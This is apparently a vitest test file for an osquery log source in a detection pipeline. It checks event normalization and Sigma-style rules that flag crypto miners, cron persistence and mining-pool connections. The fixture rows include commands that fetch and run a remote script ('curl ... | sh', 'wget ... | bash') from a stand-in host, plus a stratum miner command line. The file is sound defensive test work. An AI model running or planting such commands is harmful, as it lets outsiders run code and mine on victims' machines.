import { afterAll, beforeAll, expect, test } from 'vitest';
import { FixtureLake } from '../../../test/fixture-lake.ts';
import { source } from './source.ts';

const byText = (a: readonly unknown[], b: readonly unknown[]): number =>
  JSON.stringify(a).localeCompare(JSON.stringify(b));

let osquery: FixtureLake;
beforeAll(async () => {
  osquery = await FixtureLake.open(source, import.meta.dirname);
});
afterAll(() => osquery.close());

const host = 'build-1.example.com';

test('every row is an event, of whatever form, and so is a snapshot without rows', () => {
  expect(osquery.accounting.records).toMatchObject({ read: 29, events: 29, set_aside: [] });
  const rows = Map.groupBy(osquery.events, (event) => event['record']);
  expect([21, 22, 23, 24].map((record) => rows.get(record)?.length)).toEqual([2, 1, 3, 1]);
});

test('a started process is told with the time at which it was started', () => {
  expect(osquery.told(0)).toEqual({
    service: 'osquery',
    time: '2026-03-04T08:29:50.000Z',
    kind: 'pack_incident-response_process_events',
    operation: 'added',
    category: 'process_creation',
    actor_uid: `${host}/root`,
    actor_name: 'root',
    host,
    host_uid: '4c4c4544-0000-4000-8000-000000000020',
    process: '/tmp/.x/kworkerd',
    process_uid: '4711',
    command: '/tmp/.x/kworkerd -o stratum+tcp://pool.example.com:3333',
  });
});

test('a row of a snapshot says what the whole snapshot says', () => {
  expect(osquery.told(21, 1)).toMatchObject({
    time: '2026-03-04T08:30:00.000Z',
    kind: 'process_snapshot',
    operation: 'snapshot',
    actor_uid: `${host}/1001`,
    host,
    process: '/usr/bin/xmrig',
    command: 'xmrig --algo=rx/0',
  });
  expect(JSON.parse(String(osquery.events.find((event) => event['record'] === 21)?.['raw']))).toMatchObject({
    action: 'snapshot',
    columns: { pid: '1' },
    name: 'process_snapshot',
  });
});

test('rows of a batch are added or removed', () => {
  const changes = [0, 1, 2].map((row) => osquery.told(23, row));
  expect(changes.map(({ operation, process }) => [operation, process]).toSorted(byText)).toEqual([
    ['added', '/usr/bin/osqueryd'],
    ['removed', '/bin/sh'],
    ['removed', '/usr/bin/osqueryd'],
  ]);
});

test('what a row is about is told by its columns', () => {
  expect(osquery.events.map((event) => [event['record'], event['category']])).toEqual([
    [0, 'process_creation'],
    [1, 'process_creation'],
    [2, 'removed'],
    [3, 'process_creation'],
    [4, 'listening_port'],
    [5, 'network_connection'],
    [6, null],
    [7, null],
    [8, 'network_connection'],
    [9, 'cron_job'],
    [10, 'authorized_key'],
    [11, 'account'],
    [12, 'file_event'],
    [13, 'file_access'],
    [14, 'file_event'],
    [15, 'kernel_module'],
    [16, 'shell_command'],
    [17, 'shell_command'],
    [18, 'login'],
    [19, 'login'],
    [20, null],
    [21, 'process_creation'],
    [21, 'process_creation'],
    [22, null],
    [23, 'process_creation'],
    [23, 'removed'],
    [23, 'removed'],
    [24, 'removed'],
    [25, 'process_creation'],
  ]);
});

test.each([
  [4, { process_uid: '812', destination_port: '443', protocol: 'tcp' }],
  [5, { source_ip: '192.0.2.20', destination_ip: '203.0.113.44', destination_port: '3333', protocol: 'tcp' }],
  [8, { process: '/usr/bin/wget', destination_ip: '198.51.100.90', destination_port: '80' }],
  [9, { command: 'curl -fsSL http://files.example.com/x.sh | sh', file: '/etc/cron.d/update-check' }],
  [10, { actor_name: 'root', file: '/root/.ssh/authorized_keys' }],
  [11, { actor_name: 'svc-update' }],
  [12, { file: '/etc/cron.d/update-check', time: '2026-03-04T08:26:00.000Z' }],
  [14, { file: '/etc/cron.d/update-check', process: '/usr/bin/tee' }],
  [16, { command: 'wget -qO- http://files.example.com/x.sh | bash', time: '2026-03-04T08:21:40.000Z' }],
  [17, { time: '2026-03-04T08:30:00.000Z' }],
  [18, { actor_name: 'dev', source_ip: '198.51.100.7', time: '2026-03-04T08:15:00.000Z' }],
  [25, { host, time: '2026-03-04T08:30:00.000Z' }],
])('record %i tells %j', (record, columns) => expect(osquery.told(record)).toMatchObject(columns));

test.each([
  [6, ['source_ip', 'destination_ip', 'protocol']],
  [7, ['source_ip', 'destination_ip', 'destination_port']],
  [19, ['source_ip']],
])('record %i has no %j', (record, columns) => {
  for (const column of columns) expect(osquery.told(record)).not.toHaveProperty(column);
});

const rule = (category: string, detection: string): string =>
  `title: t\nlogsource: {product: linux, category: ${category}}\nlevel: low\ndetection:\n  s: {${detection}}\n  condition: s\n`;

test('rules of each category meet its rows, and no others', async () => {
  expect(
    await osquery.firing({
      process: rule('process_creation', "'Image|contains': ''"),
      file: rule('file_event', "'TargetFilename|contains': ''"),
      network: rule('network_connection', "'DestinationIp|contains': ''"),
      miner: rule('process_creation', "'Image|startswith': /tmp/, 'CommandLine|contains': stratum+tcp, User: root"),
      inSnapshot: rule('process_creation', "'Image|endswith': /xmrig, 'CommandLine|contains': algo=rx"),
      ended: rule('process_creation', 'ProcessId: 97650'),
      cron: rule('file_event', "'TargetFilename|startswith': /etc/cron.d/"),
      pool: rule('network_connection', "DestinationPort: 3333, Initiated: 'true'"),
      own: 'title: t\nlogsource: {product: osquery}\nlevel: low\ndetection:\n  s: {columns.history_file|contains: bash}\n  condition: s\n',
    }),
  ).toEqual({
    process: [0, 1, 3, 21, 23, 25],
    file: [12, 14],
    network: [5, 8],
    miner: [0],
    inSnapshot: [21],
    cron: [12, 14],
    pool: [5],
    own: [16, 17],
  });
});
